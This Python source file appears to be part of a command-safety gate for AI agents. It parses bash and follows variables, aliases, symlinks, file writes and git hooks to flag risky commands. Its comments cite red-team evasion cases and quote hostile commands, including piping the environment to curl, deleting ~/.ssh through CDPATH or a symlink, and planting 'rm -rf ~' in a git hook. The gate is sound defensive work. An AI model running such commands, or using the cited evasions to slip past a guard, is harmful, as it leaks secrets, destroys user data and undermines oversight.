        """A function exported to child shells (``export -f f; bash -c f``) and named
        again but never seen called is walked anyway, to fail safe.  Without an
        export, a child shell (``sh -c f``) or an external wrapper (``X=1 time f``)
        cannot call it: bash says "command not found"."""
        if not self._functions_exported:
            return
        for name in list(self._bodies):
            if (
                name not in self._called
                and len(re.findall(r"(?<![\w.-])" + re.escape(name) + r"(?![\w.-])", source)) > 1
            ):
                self.call(name)

    def declaration(self, node: Any, depth: int) -> None:
        flags = {
            f
            for c in node.named_children
            if c.type == "word" and node_text(c)[:1] in "-+"
            for f in node_text(c)[1:]
        }
        keyword = node_text(node.children[0]) if node.children else ""
        if keyword == "export":
            flags = set()  # export -n un-exports: no reference, no attribute followed
        scoped = self._locals and keyword in ("local", "declare", "typeset") and "g" not in flags
        for child in node.named_children:
            if scoped and child.type in ("variable_assignment", "variable_name"):
                name_node = child.child_by_field_name("name") or child
                self._local(node_text(name_node).split("[", 1)[0])
            if child.type == "variable_assignment":
                key, value = self.assignment(child, depth)
                self.state.vars[key] = value
                if "n" in flags:  # declare -n ref=x: $ref is $x, ref=y sets x
                    self._reference(key, value)
                elif flags & _UNFOLLOWED_ATTRIBUTES:
                    self._unfollowed(key)
            elif child.type == "variable_name" and flags & {"n", *_UNFOLLOWED_ATTRIBUTES}:
                self._unfollowed(node_text(child), everything="n" in flags)
            else:
                before = len(self.cmds)
                self.side_effects(child, depth)
                self._capture(before)  # export $(cat .env | xargs): its words are assignments

    def _unfollowed(self, name: str, everything: bool = False) -> None:
        """``name`` declared with an attribute the walk doesn't follow (``-A``: keys that
        are strings, ``-l``/``-u``: case changed on each assignment, ``-i``: arithmetic),
        so its value is unknown from here on (rt103); ``everything``: a reference whose
        target is not known (``declare -n r``, ``declare -n r=$x``) may reach any name."""
        self.state.unfollowed.update({name, "*"} if everything else {name})
        self._unfollow()

    def _reference(self, ref: str, target: str) -> None:
        """``declare -n ref=x``: ``ref`` reads and writes x, arrays too (rt103)."""
        if not target.isidentifier():  # declare -n r='a[1]', r=$x: not followed
            self._unfollowed(ref, everything=True)
            return
        items = arrays.table(self.state.vars, target)
        arrays.set_table(self.state.vars, ref, items)
        self.state.refs[ref] = (target, items)

    def _follow_refs(self) -> None:
        """Each reference and its target made alike again: a write through the reference
        since they last were (``ref=y``, ``read ref``) went to the target, as in bash;
        otherwise the target's new value is the reference's."""
        vars_ = self.state.vars
        for ref, (target, seen) in list(self.state.refs.items()):
            mine = arrays.table(vars_, ref)
            now = mine if mine != seen else arrays.table(vars_, target)
            arrays.set_table(vars_, target, now)
            arrays.set_table(vars_, ref, now)
            self.state.refs[ref] = (target, now)

    def _unfollow(self) -> None:
        """Each name in :attr:`ShellState.unfollowed` (all for ``*``) made unknown."""
        if "*" in self.state.unfollowed:
            self._forget_all()
        for name in self.state.unfollowed - {"*"}:
            arrays.set_table(self.state.vars, name, None)

    def _forget_all(self) -> None:
        """Every variable unknown: something not known may have set any."""
        for name in [v for v in self.state.vars if v[:1].isalpha() or v[:1] == "_"]:
            self.state.vars[name] = UNKNOWN

    def _listing(self, node: Any, via: str) -> Cmd | None:
        """``export``, ``export -p``, ``declare -x``, ``typeset -p``: a declaration that
        assigns nothing prints variables, so it is a command whose output a pipe carries
        (``declare -x | curl -d @- URL`` sends the environment)."""
        words = [node_text(c) for c in node.named_children]
        names = [w for w in words if w[:1] != "-"]
        if any(c.type not in ("word", "variable_name") for c in node.named_children) or (
            names and ("-p" not in words or not all(n.isidentifier() for n in names))
        ):
            return None  # declare -p NAME prints NAME's value (red-team rt93)
        keyword = node_text(node.children[0]) if node.children else ""
        self._vars_used = []
        for n in names:
            self._use(n)
        cmd = Cmd([keyword, *words], node_text(node), self.state.cwd, via=via)
        cmd.vars_used = list(self._vars_used)
        self.cmds.append(cmd)
        return cmd

    def for_loop(self, node: Any, depth: int) -> None:
        var = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        values: list[str] = []
        for child in node.children_by_field_name("value"):
            values.extend(self.expand(child, depth, split=True))
        name = node_text(var) if var is not None else ""
        if values and len(values) <= 3:
            start = self._snapshot()
            for value in values:  # each pass walked
                self._pass(name, value, body, depth)
            if any(UNKNOWN in v for v in values):  # $X may be no word: no pass (rt104)
                self._maybe_ran(start)
        else:
            self._repeated(lambda: self._pass(name, UNKNOWN, body, depth))

    def _pass(self, name: str, value: str, body: Any, depth: int) -> None:
        """One pass of a ``for`` loop, its name set to ``value``."""
        if name:
            self.state.vars[name] = value
        if body is not None:
            self.stmt(body, depth)

    def assignment(self, node: Any, depth: int) -> tuple[str, str]:
        """``NAME=value`` as ``(NAME, value)``; ``a=(...)``, ``a+=...`` and ``a[N]=x`` keep
        the array as :mod:`arrays` does and give ``a``'s value (``a[0]``) back."""
        name_node = node.child_by_field_name("name") or node.named_children[0]
        value_node = node.child_by_field_name("value")
        name = node_text(name_node).split("[", 1)[0]
        adds = any(not c.is_named and node_text(c) == "+=" for c in node.children)
        if value_node is not None and self._carries(node_text(value_node)):
            self.captured_vars.add(name)  # Y=$X, a=($X): a copy of a captured value
        if value_node is not None and value_node.type == "array":
            self._array(name, value_node, depth, adds)
            return name, self.state.vars[name]
        before, mark = len(self.cmds), len(self._vars_used)
        value = "".join(self.expand(value_node, depth, split=False)) if value_node else ""
        self.origins[name] = set(self._vars_used[mark:]) - {name}
        self._feed(name, before, adds)
        if self._capture(before):
            self.captured_vars.add(name)
        if name_node.type == "subscript" or name + "[#]" in self.state.vars:
            self._set_element(name, name_node, value, adds, depth)
            return name, self.state.vars[name]
        if adds:  # s+=x (red-team rt94)
            value = self.state.vars.get(name, UNKNOWN) + value
        return name, value

    def _set_element(self, name: str, target: Any, value: str, adds: bool, depth: int) -> None:
        """``a[N]=x`` (N read as bash's arithmetic), ``a[N]+=x``, and ``a=x``/``a+=x`` on an
        array, which set or add to its first element (bash's manual)."""
        index_node = target.child_by_field_name("index") if target.type == "subscript" else None
        index: int | None = 0
        if index_node is not None:
            self.side_effects(index_node, depth)  # a[$(cmd)]=x runs cmd
            index = arith.run(node_text(index_node), self.state.vars)
        if adds and index is not None:
            value = arrays.added(self.state.vars, name, index, value)
        arrays.set_element(self.state.vars, name, index, value)

    def _unset(self, node: Any, depth: int) -> list[str]:
        """``unset a``, ``unset -v 'a[1]'``, ``unset $v``: the names (or elements) removed,
        each word expanded first as bash does; an element's index is read as bash's
        arithmetic, the others keeping theirs (rt102).  A name not known could be any:
        every variable is then unknown."""
        words = [
            "".join(w for n in group for w in self.expand(n, depth, split=False))
            for group in _touching(node.named_children)
        ]
        for word in words:
            target = _ELEMENT.fullmatch(word)
            if has_marker(target.group(1) if target is not None else word):
                self._forget_all()
            elif target is not None and target.group(2) not in ("@", "*"):
                index = arith.run(target.group(2), self.state.vars)
                arrays.unset_element(self.state.vars, target.group(1), index)
            elif target is not None:  # unset 'a[@]': bash 5.2 leaves it empty
                arrays.set_elements(self.state.vars, target.group(1), [])
            elif not word.startswith("-"):
                self.state.vars.pop(word, None)
                for element in [v for v in self.state.vars if v.startswith(word + "[")]:
                    del self.state.vars[element]  # unset a: its elements too
        return words

    def _carries(self, text: str) -> bool:
        """Whether ``text`` expands a variable that holds a captured value (red-team rt93)."""
        return any(
            re.search(r"\$\{?[#!]?" + re.escape(v) + r"\b", text) for v in self.captured_vars
        )

    def _array(self, name: str, node: Any, depth: int, adds: bool) -> None:
        """``a=(X Y)``, ``a+=(Z)``: kept by :mod:`arrays`, so ``${a[1]}`` is Y and
        ``"${a[@]}"`` is each element (red-team rt89, rt94).  An element not known may be
        any number of fields (``a=($(cat list))``), so the array is then not known."""
        items = arrays.table(self.state.vars, name) if adds else {}
        for child in node.named_children:  # each expanded: a substitution in it runs
            keyed = _KEYED.match(node_text(child)) if child.type == "concatenation" else None
            if keyed is not None:  # a=([3]=x y): y goes to index 4 (rt102)
                items = self._keyed_element(items, child, keyed, depth)
                continue
            for word in self.expand(child, depth, split=True):
                if items is not None:
                    items[arrays.next_index(items)] = word
        known = items is not None and not any(has_marker(i) for i in items.values())
        arrays.set_table(self.state.vars, name, items if known else None)

    def _keyed_element(
        self, items: dict[int, str] | None, child: Any, keyed: re.Match[str], depth: int
    ) -> dict[int, str] | None:
        """``[N]=x`` (or ``[N]+=x``) in ``a=(...)``: element N set to x, expanded as an
        assignment's value (no splitting); ``None`` when N or the array is not known."""
        text = "".join(self.expand(child, depth, split=False))
        if not keyed.group(1):  # a=(x []=y): bash refuses it ("bad array subscript")
            return items  # and sets the other elements (rt103)
        index = arith.run(keyed.group(1), self.state.vars)
        value = _KEYED.match(text)
        if items is None or index is None or index < 0 or value is None:
            return None
        start = items.get(index, "") if keyed.group(2) else ""
        items[index] = start + text[value.end() :]
        return items

    def _read_vars(self, cmd: Cmd) -> None:
        """``read A B <<< TEXT``: the first line split among the names, the last taking the
        rest (bash's ``help read``), so ``read f <<< KEY; cat $f`` reads KEY (red-team
        rt89).  Input that is not the command's own text, or options beyond ``-r -s
        -e``, leave the names unknown, never the value they had before."""
        names = [a for a in cmd.args if not a.startswith("-")] or ["REPLY"]
        text = _own_text(cmd.stdin_text)
        if cmd.stdin_text is None and cmd.stdin_from is not None and len(names) == 1:
            # find DIR | while read f: f is each item it yields, as xargs is handed them
            # (``_items``); the loop's body is walked once, with the first
            text = self._read_item(cmd.stdin_from)
        if (
            text is None
            or has_marker(text)
            or any(a.startswith("-") and a.strip("-rse") for a in cmd.args)
        ):
            for n in names:  # read -a NAME too: the array is not known
                arrays.set_elements(self.state.vars, n, None)
            return
        fields = _read_fields((text.splitlines() or [""])[0], len(names), self._ifs(cmd))
        for k, n in enumerate(names):
            value = UNKNOWN if fields is None else fields[k] if k < len(fields) else ""
            if n + "[#]" in self.state.vars:  # read a, a an array: its first element
                arrays.set_element(self.state.vars, n, 0, value)
            else:
                self.state.vars[n] = value

    def _mapfile(self, cmd: Cmd) -> None:
        """``mapfile -t a <<< TEXT``, ``readarray a < <(echo X)``: one element a line, its
        line end kept unless ``-t`` (bash's ``help mapfile``), when the input is the
        command's own text; any other input or option leaves the array unknown."""
        names = [a for a in cmd.args if not a.startswith("-")]
        name = names[-1] if names else "MAPFILE"
        text = _own_text(cmd.stdin_text)
        sources = [t for op, t in cmd.redirects if op == "<"]
        if text is None and len(sources) == 1 and not has_marker(sources[0]):
            # < <(echo X), < file written here: a pipe's input is in a subshell's array
            text = self.state.written.get(resolve(sources[0], self.where, cmd.cwd))
        options = [a for a in cmd.args if a.startswith("-")]
        if text is None or has_marker(text) or len(names) > 1 or any(a != "-t" for a in options):
            arrays.set_elements(self.state.vars, name, None)
            return
        lines = re.findall(r"[^\n]*\n|[^\n]+$", text)
        items = [line.removesuffix("\n") for line in lines] if options else lines
        arrays.set_elements(self.state.vars, name, items)

    def _printf_var(self, cmd: Cmd) -> None:
        """``printf -v NAME FORMAT ARGS``: NAME holds what printf would print (bash's
        ``help printf``), unknown where the format is not followed."""
        rest = cmd.args[2:]
        if rest[:1] == ["--"]:
            rest = rest[1:]
        if len(cmd.args) < 3 or not rest:
            return
        name = cmd.args[1]
        if "[" in name:  # printf -v 'a[1]' X: not followed, the array is not known
            arrays.set_elements(self.state.vars, name.split("[", 1)[0], None)
        elif name.isidentifier():  # bash refuses any other name
            text = pipes.printf_text(rest[0], rest[1:])
            self.state.vars[name] = UNKNOWN if text is None else text

    def _ifs(self, cmd: Cmd) -> str:
        """The IFS ``read`` splits with: its own assignment's (``IFS=, read a b``), else
        the shell's."""
        return cmd.assigns.get("IFS", self.state.vars.get("IFS", " \t\n"))

    def _read_item(self, producer: Cmd) -> str | None:
        """The item a ``read`` loop's body is walked with: one of the guard's own files
        that ``find`` yields where there is one (the body runs for each), else the first
        item, as xargs would be handed them; ``None`` when none can be known."""
        if producer.name == "find":
            from agentreflex.gate.shell.changes import find_yields

            own = find_yields(producer.args, producer.cwd, self.where)
            if own:
                return own[0]
        items = self._items(producer, None, lines=True)
        return items[0] if items and items[0] != DATA else None

    def _feed(self, name: str, before: int, adds: bool) -> None:
        """Record which commands' output ``name`` now holds: the substitutions run for
        its value and the values of the variables it copies."""
        fed = {id(c) for c in self.cmds[before:]}
        for v in self.origins[name]:
            fed |= self.fed_from.get(v, set())
        if adds:
            fed |= self.fed_from.get(name, set())
        if fed:
            self.fed_from[name] = fed
        else:
            self.fed_from.pop(name, None)

    def _capture(self, before: int) -> bool:
        """The commands run since ``before`` printed into a variable, not on the screen,
        when each only filters its input to its output (:func:`_only_passes_on`)."""
        ran = self.cmds[before:]
        if not ran or not all(_only_passes_on(c) for c in ran):
            return False
        self.captured.update(id(c) for c in ran)
        return True

    # --- simple commands -------------------------------------------------

    def command(
        self,
        node: Any,
        depth: int,
        redirects: list[tuple[str, str]],
        stdin_text: str | None,
        stdin_from: Cmd | None,
        via: str,
        extra: list[Any] | None = None,
    ) -> Cmd | None:
        assigns: dict[str, str] = {}
        word_nodes: list[Any] = []
        redirects = list(redirects)
        self._vars_used = []
        for child in node.named_children:
            t = child.type
            if t == "variable_assignment":
                key, value = self.assignment(child, depth)
                assigns[key] = value
            elif t == "command_name":
                word_nodes.extend(child.named_children)
            elif t == "file_redirect":
                redirects.append(self.redirect(child, depth))
                word_nodes.extend(_redirect_words(child))
            elif t == "herestring_redirect":
                stdin_text = " ".join(self.words(child.named_children, depth)) + "\n"
            elif t == "heredoc_redirect":
                stdin_text = self.heredoc(child, depth)
                redirects.extend(self._heredoc_files(child, depth))
            elif t != "comment":
                word_nodes.append(child)
        argv = self.words([*word_nodes, *(extra or [])], depth)
        used = list(self._vars_used)
        if not argv:
            self._ok = frozenset()
            self.state.vars.update(assigns)
            if redirects:
                cmd = Cmd([":"], node_text(node), self.state.cwd, assigns, redirects, via=via)
                self.cmds.append(cmd)
                return cmd
            return None
        fed = self._inherited
        own = stdin_text is not None or stdin_from is not None
        if fed is not None and not own and not any(op == "<" for op, _ in redirects):
            stdin_text, stdin_from = fed.stdin_text, fed.stdin_from
            redirects += [r for r in fed.redirects if r[0] == "<"]
            self._inherited = None  # what it runs (the script it reads) has no such input
        try:
            return self.execute(
                argv,
                node_text(node),
                depth,
                assigns=assigns,
                redirects=redirects,
                stdin_text=stdin_text,
                stdin_from=stdin_from,
                via=via,
                used=used,
            )
        finally:
            self._inherited = fed

    def words(self, nodes: list[Any], depth: int) -> list[str]:
        """Each node's words as bash expands them; a plain ``str`` is a word already."""
        out: list[str] = []
        for n in nodes:
            out.extend([n] if isinstance(n, str) else self.expand(n, depth, split=True))
        return out

    def execute(
        self,
        argv: list[str],
        text: str,
        depth: int,
        *,
        assigns: dict[str, str] | None = None,
        redirects: list[tuple[str, str]] | None = None,
        stdin_text: str | None = None,
        stdin_from: Cmd | None = None,
        via: str = "",
        used: list[str] | None = None,
    ) -> Cmd | None:
        """Run ``argv`` the way bash would: aliases, wrappers, then the command itself."""
        self._tick()
        self._ok = frozenset()
        if depth > MAX_DEPTH:
            self._ask("GATE-PARSE-TOO-DEEP", text, "Nesting is too deep to analyse.")
            return None
        if argv and argv[0] in self.state.aliases:
            expanded = self.state.aliases.pop(argv[0])  # bash does not re-expand an alias
            try:
                rest = argv[1:]
                if all(not has_marker(a) for a in rest):
                    self.run(
                        expanded + " " + " ".join(quote(a) for a in rest), depth + 1, via="alias"
                    )
                else:
                    self.execute(expanded.split() + rest, text, depth + 1, via="alias")
            finally:
                self.state.aliases[argv[0]] = expanded
            return None
        peeled = peel(argv)
        if peeled.data or not peeled.argv:
            cmd = Cmd(
                argv,
                text,
                self.state.cwd,
                dict(assigns or {}),
                list(redirects or []),
                stdin_text,
                stdin_from,
                list(used or []),
                via,
            )
            self.cmds.append(cmd)
            return cmd
        cwd = self.state.cwd
        if peeled.chdir:
            unknown = peeled.chdir[:1] in (UNKNOWN, REMOTE) or cwd == UNKNOWN
            cwd = UNKNOWN if unknown else resolve(peeled.chdir, self.where, cwd)
        name = peeled.argv[0]
        base = _basename(name)
        if base.isupper() and base.isascii() and base.replace("-", "").isalpha():
            # case-insensitive filesystems (macOS) run /bin/rm for "RM"
            name = name[: len(name) - len(base)] + base.lower()
        elif base.endswith(".sh") and _service_script(base):
            # a service's own distribution runs its tools as scripts (Apache Kafka's
            # bin/kafka-topics.sh is Confluent's kafka-topics): judged as the tool
            name = name[: len(name) - len(base)] + base[:-3]
        all_assigns = {**self.inherited_env, **(assigns or {}), **peeled.assigns}
        rest = peeled.argv[1:]
        if self.state.links and cwd != UNKNOWN:
            rest = [self._through_links(a, cwd) for a in rest]
        cmd = Cmd(
            [_basename(name), *rest],
            text,
            cwd,
            all_assigns,
            [*(redirects or []), *(OtherFd((">", f)) for f in peeled.writes)],
            stdin_text,
            stdin_from,
            list(used or []),
            via,
            program=name if "/" in name else "",
            shell_vars=dict(self.state.vars),
            shell_functions=frozenset(self.state.functions),
        )
        self.cmds.append(cmd)
        if has_marker(name):
            self._dynamic_name(name, text)
            return cmd
        if _brace_word(name):
            self._ask(
                "GATE-BRACE-COMMAND",
                text,
                "The command is built by a brace expansion that cannot be resolved, so "
                "what it runs cannot be checked. Spell the command and its arguments out.",
            )
            return cmd
        calls = _calls_functions(peeled.wrappers, argv, all_assigns, text)
        self.dispatch(cmd, name, depth, calls)
        self._record_writes(cmd, depth)
        self._ok = self._checks(cmd)
        if cmd.name == "ln":
            self._record_link(cmd)
        return cmd

    def _dynamic_name(self, name: str, text: str) -> None:
        if REMOTE in name:
            self._hit(
                "GATE-RCE-DOWNLOAD",
                DESTRUCTIVE,
                P_BLOCK,
                text,
                "This runs code downloaded from the network. Download it to a file, "
                "read it, then run it if it is safe.",
            )
        else:
            self._ask(
                "GATE-DYNAMIC-COMMAND",
                text,
                "The command to run is computed at run time and cannot be checked. "
                "Spell the command out.",
            )

    def dispatch(self, cmd: Cmd, original: str, depth: int, function_ok: bool = True) -> None:
        """Recurse into whatever ``cmd`` itself executes."""
        name = cmd.name
        if self._function and name == self._function[-1]:
            self._hit(
                "GATE-FORK-BOMB",
                DESTRUCTIVE,
                P_BLOCK,
                cmd.text,
                "A function that calls itself without end exhausts the machine. "
                "Write a bounded loop instead.",
            )
        if name in self._bodies and name not in self._function and function_ok:
            with self._fed_by(cmd):  # f < job.sh: the body's commands read f's input
                self.call(name)
        if _unknown_option(cmd, name):
            self._ask(
                "GATE-DYNAMIC-SCRIPT",
                cmd.text,
                f"An option of {name} is only known at run time (it could make it run "
                "code or discard work), so what it does cannot be checked. Spell it out.",
            )
            return
        if name in _EXEC_OPTIONS:
            self.exec_options(cmd, depth)
        if name in SHELLS:
            self.shell(cmd, depth)
        elif name == "eval":
            self.eval(cmd, depth)
        elif name in ("source", "."):
            self.source(cmd, depth)
        elif name == "xargs":
            self.xargs(cmd, depth)
        elif name == "parallel":
            self.parallel(cmd, depth)
        elif name == "find":
            self.find(cmd, depth)
        elif name == "alias":
            for a in cmd.args:
                key, sep, value = a.partition("=")
                if sep and not has_marker(value):
                    self.state.aliases[key] = value
        elif name in ("cd", "pushd"):
            self._cd(cmd)
        elif name == "set":
            self._positional(cmd.args)
        elif name == "read":
            self._read_vars(cmd)
        elif name in ("mapfile", "readarray"):
            self._mapfile(cmd)
        elif name == "printf" and cmd.args[:1] == ["-v"]:
            self._printf_var(cmd)
        elif name == "let":
            for expression in cmd.args:  # let n=n+1 'j = n * 3' (red-team rt94)
                arith.run(expression, self.state.vars)
        elif name == "ssh":
            self.ssh(cmd, depth)
        elif name == "ansible":
            self.ansible(cmd, depth)
        elif name in _CONTAINER_TOOLS:
            self.container(cmd, depth)
        elif name in _HANDED and ("/" not in original or os_program(original)):
            self.handed(cmd, depth)  # ./bin/heroku, a file of the project: read as a script
        elif name in _TERMINAL_SERVERS:
            self.terminal(cmd, depth)
        elif name in interp.AWKS:
            self.awk(cmd, depth)
        elif name == "git":
            self.git_alias(cmd, depth)
        elif name == "trap":
            self.trap(cmd, depth)
        elif name in ("at", "batch"):
            self.at(cmd, depth)
        elif name == "crontab":
            self.crontab(cmd, depth)
        elif name in ("make", "gmake"):
            self.make(cmd, depth)
        elif name in ("npm", "pnpm", "yarn", "bun") and not _bun_code(name, cmd.args):
            self.package_script(cmd, depth)
        elif name == "prisma" and positional(cmd.args, _PRISMA_VALUED)[:2] == ["db", "seed"]:
            self.prisma_seed(cmd, depth)
        elif name in _CONSOLE_HOSTS and self._console(cmd, depth):
            pass
        elif python_entry(cmd.argv) is not None:  # pytest's conftest.py, pip's setup.py
            self.python_files(cmd, depth)
        elif interp.interpreter_name(name):
            self.interpreter(cmd, interp.interpreter_name(name), depth)
        elif name in DB_SHELL_ESCAPES:
            self.db_client(cmd, depth)
        elif "/" in original:
            self._script(resolve(original, self.where, cmd.cwd), cmd, depth)
        elif name in ("rimraf", "del-cli", "trash-empty"):
            self.execute(["rm", "-rf", *cmd.args], cmd.text, depth + 1, via=name)
        elif name == "shx" and cmd.args[:1] in (["rm"], ["mv"], ["cp"], ["chmod"]):
            # package.json scripts' portable shell: `shx rm -rf lib` is rm -rf lib
            self.execute(cmd.args, cmd.text, depth + 1, via=name)
        else:
            self._derived(cmd, depth)

    def _console(self, cmd: Cmd, depth: int) -> bool:
        """``rails runner CODE``, ``manage.py shell -c CODE``, ``artisan tinker --execute
        CODE``: the code, judged as its interpreter's (:func:`rules.orm.console_code`),
        with the console's input (``manage.py shell < job.py``)."""
        from agentreflex.gate.rules.orm import console_code, console_scope  # these only

        argv = console_code(cmd.argv)
        if argv is None:
            return False
        self.execute(
            argv,
            cmd.text,
            depth + 1,
            # RAILS_ENV=test, or -e test: the database the code reaches
            assigns={**cmd.assigns, **console_scope(cmd.argv)},
            redirects=[r for r in cmd.redirects if r[0] == "<"],
            stdin_text=cmd.stdin_text,
            stdin_from=cmd.stdin_from,
            via=f"{cmd.name} console",
        )
        return True

    def _derived(self, cmd: Cmd, depth: int) -> None:
        """An unknown program handed a protected command line (:mod:`derived`)."""
        from agentreflex.gate.rules.programs import DERIVED_HEADS

        if not (cmd.args and (cmd.args[0] in DERIVED_HEADS or "--" in cmd.args)):
            return
        from agentreflex.gate import analyze
        from agentreflex.gate.rules import derived

        if derived.wanted(cmd, analyze.known_program(cmd.name)):
            derived.check(self, cmd, depth, analyze.rules_for)

    def _positional(self, args: list[str]) -> None:
        """``set -- a b c`` (or ``set a b``): the positional parameters ``$1``... and ``$@``."""
        _errexit(self.state, args)
        if "--" in args:
            params = args[args.index("--") + 1 :]
        elif args and args[0][:1] not in ("-", "+"):
            params = args
        else:
            return  # set -e, set -o pipefail: options only
        for k in range(1, 10):
            self.state.vars[str(k)] = params[k - 1] if k <= len(params) else ""
        self.state.vars["@"] = " ".join(params)
        self.state.vars["#"] = str(len(params))

    def _cd(self, cmd: Cmd) -> None:
        target = next((a for a in cmd.args if not a.startswith("-") or a == "-"), "")
        if not target:
            self.state.cwd = self.where.home
        elif target == "-" or target[:1] in (UNKNOWN, REMOTE):
            self.state.cwd = UNKNOWN
        else:
            self.state.cwd = self._cdpath(cmd, target) or resolve(
                target, self.where, self.state.cwd
            )

    def _cdpath(self, cmd: Cmd, target: str) -> str:
        """Where ``cd NAME`` goes through ``CDPATH`` (bash tries its folders first), or "".

        ``CDPATH=$HOME cd .ssh && rm -rf ./*`` empties ``~/.ssh``, not the
        project's ``.ssh``.  A name starting with ``/``, ``./`` or ``../`` skips it.
        """
        value = cmd.assigns.get("CDPATH", self.state.vars.get("CDPATH", ""))
        first = target.split("/", 1)[0]
        if not value or target.startswith("/") or first in (".", ".."):
            return ""
        if has_marker(value):
            return UNKNOWN
        import os

        for entry in value.split(":"):
            folder = resolve(target, self.where, resolve(entry or ".", self.where, self.state.cwd))
            if os.path.isdir(folder):
                return folder
        return ""

    def _through_links(self, arg: str, cwd: str) -> str:
        """``arg`` as the OS reaches it through a symlink this command made earlier.

        ``ln -s ~ x && rm -rf x/``: the link does not exist yet when the gate
        reads the command, so no look at the disk can follow it.  The link
        itself (``rm x``) is left as it is: only a path through it is replaced.
        """
        if not arg or arg.startswith("-") or has_marker(arg):
            return arg
        full = resolve(arg, self.where, cwd)
        for link, target in self.state.links.items():
            if full.startswith(link + "/") or (full == link and arg.endswith("/")):
                return target + full[len(link) :] + ("/" if arg.endswith("/") else "")
        return arg

    def _record_link(self, cmd: Cmd) -> None:
        """Remember where ``ln -s TARGET NAME`` points, for the commands after it."""
        words = [a for a in cmd.args if not a.startswith("-")]
        flags = "".join(a[1:] for a in cmd.args if a.startswith("-") and not a.startswith("--"))
        if len(words) != 2 or not ("s" in flags or "--symbolic" in cmd.args):
            return
        target, name = words
        if has_marker(target) or has_marker(name) or cmd.cwd == UNKNOWN:
            return
        link = resolve(name, self.where, cmd.cwd)
        base = posixpath.dirname(link) if not target.startswith(("/", "~")) else cmd.cwd
        self.state.links[link] = resolve(target, self.where, base)

    def _record_writes(self, cmd: Cmd, depth: int) -> None:
        """Remember files written in this command, so running them later is checked."""
        content: str | None = None
        copied: dict[str, str] = {}  # a copy made -> the file on disk it is made of
        if cmd.name in _PRINTS_KNOWN:
            content = pipes.output_text(cmd, self.state.written)
            content = None if content is None else content + pipes.line_end(cmd)
        targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>")]
        appended = {t for op, t in cmd.redirects if op in (">>", "&>>")}
        if cmd.name == "tee":
            named = [a for a in cmd.args if not a.startswith("-")]
            targets += named
            if _tee_appends(cmd.args):
                appended.update(named)
        words = [a for a in cmd.args if not a.startswith("-")]
        into: dict[str, str] = {}
        folder = _target_folder(cmd.args) if cmd.name in ("cp", "mv", "install", "ln") else None
        if folder is not None:  # cp -t DIR A B
            into = _copied_into([w for w in words if w != folder], folder)
        elif cmd.name in ("cp", "mv", "install", "ln") and len(words) >= 2:
            # the copy has the source's content: known only if the source was written here
            source = self.state.written.get(resolve(words[0], self.where, cmd.cwd))
            targets.append(words[-1])
            content = source if len(words) == 2 and source is not None else UNKNOWN
            if len(words) == 2:
                copied[words[-1]] = words[0]
            into = _copied_into(words[:-1], words[-1])
        copied.update(into)
        files = {t: content if content is not None else UNKNOWN for t in targets}
        for t, source_word in into.items():
            # cp x.sh d/: d/x.sh, if d is a folder (else it is d itself, above) (rt94)
            files[t] = self.state.written.get(resolve(source_word, self.where, cmd.cwd), UNKNOWN)
        # a download saved however its file is named: the marker and where from (a
        # vendor's installer run from it only warns, as its pipe form does)
        files.update(downloads.saved(cmd, self.state.written))
        messages = _messages_only(cmd.redirects) if pipes.is_download(cmd) else set()
        for t, text in files.items():
            if not has_marker(t):
                path = resolve(t, self.where, cmd.cwd)
                self.state.written[path] = self._before(path) + text if t in appended else text
                if t in messages and t not in appended:
                    self._messages.add(path)
                else:
                    self._messages.discard(path)
                self._copies.pop(path, None)
                source_word = copied.get(t, "")
                origin = "" if not source_word or has_marker(source_word) else source_word
                origin = resolve(origin, self.where, cmd.cwd) if origin else ""
                if origin and text == UNKNOWN and origin not in self.state.written:
                    self._copies[path] = origin  # its text is the file's on disk
                self._reviewed.pop(path, None)  # what was checked is gone
                if downloads.nameless(path):  # and any file this one may overwrite
                    for old in [p for p in self._reviewed if self._holder(p) == path]:
                        del self._reviewed[old]
                self._writes += 1
                self._stamps[path] = self._writes
                if _GIT_HOOK.search(path):
                    self._git_hook(path, cmd, depth, words)

    def _before(self, path: str) -> str:
        """What a file held before ``>>`` adds to it: what this command wrote there, else
        the file on disk (read as running it would read it), so ``echo ENTRY > f; echo x
        >> f; crontab f`` installs ENTRY (red-team rt86); unknown when it can't be read."""
        if path in self.state.written:
            return self.state.written[path]
        from agentreflex.gate.code import scripts  # only for a file appended to

        old = scripts.read(path)
        return "" if old is None else UNKNOWN + "\n" if old == scripts.UNREADABLE else old

    def _git_hook(self, path: str, cmd: Cmd, depth: int, words: list[str]) -> None:
        """A git hook written now runs at the next commit or checkout, the user's too.

        It runs outside any boundary and after this check, so what it holds is
        judged now, as the script it is: ``echo 'rm -rf ~' > .git/hooks/pre-commit``.
        A copy is judged by its source.
        """
        content = self.state.written.get(path, UNKNOWN)
        if cmd.name in ("cp", "mv", "install", "ln") and len(words) == 2:
            self._script(resolve(words[0], self.where, cmd.cwd), cmd, depth, words[0])
        elif content != UNKNOWN:
            self._script(path, cmd, depth)


# ``[N]=x`` / ``[N]+=x`` in a compound assignment, ``a[N]`` named to ``unset`` (bash's
# manual, Arrays)
# declare/local/typeset attributes whose values the walk doesn't follow (``help declare``)
_UNFOLLOWED_ATTRIBUTES = frozenset("Ailnu")
_KEYED = LazyPattern(r"\[([^\]]*)\](\+?)=")
_ELEMENT = LazyPattern(r"([A-Za-z_][A-Za-z0-9_]*)\[(.+)\]", re.DOTALL)


def _touching(nodes: list[Any]) -> list[list[Any]]:
    """``nodes`` grouped into the words they make: tree-sitter splits ``a[2]`` into ``a``
    and ``[2]``, which touch."""
    groups: list[list[Any]] = []
    for node in nodes:
        if groups and node.start_byte == groups[-1][-1].end_byte:
            groups[-1].append(node)
        else:
            groups.append([node])
    return groups


def _own_text(text: str | None) -> str | None:
    """The command's own input text as ``read`` and ``mapfile`` get it: a heredoc's body is
    kept as written, so one with an expansion left in it (``<<EOF`` holding ``$HOME``)
    is not known (red-team rt94); a here-string's words are expanded already."""
    if text is None or any(c in text for c in "$`\\"):
        return None
    return text


def _copied_into(sources: list[str], folder: str) -> dict[str, str]:
    """``cp A B DIR``: the files a copy into the folder ``DIR`` makes (``DIR/A``, ``DIR/B``)
    and the source of each (cp(1), install(1)); a last word is taken as a folder
    whether or not it is one now (``mkdir -p d && cp x d``)."""
    folder = folder.rstrip("/")
    if has_marker(folder):
        return {}
    return {
        f"{folder or '/'}/{_basename(w.rstrip('/'))}".replace("//", "/"): w
        for w in sources
        if not has_marker(w) and w.rstrip("/")
    }


def _target_folder(args: list[str]) -> str | None:
